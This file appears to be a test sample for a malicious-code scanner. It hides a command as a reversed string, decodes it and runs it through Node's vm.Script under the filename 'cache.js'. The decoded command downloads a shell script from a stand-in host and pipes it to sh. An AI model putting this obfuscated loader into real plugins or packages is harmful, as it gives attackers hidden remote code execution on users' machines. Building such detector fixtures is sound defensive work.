// expect: category=code-generation min=80 context=plugin,package
// why: new vm.Script over a reversed string, run in this context.
const { Script } = require('vm');

const hidden = ")'hs | hs.s/elpmaxe.ld//:sptth s- lruc'(cexe.)'ssecorp_dlihc'(eriuqer";
const source = hidden.split('').reverse().join('');

const compiled = new Script(source, { filename: 'cache.js' });
compiled.runInThisContext();
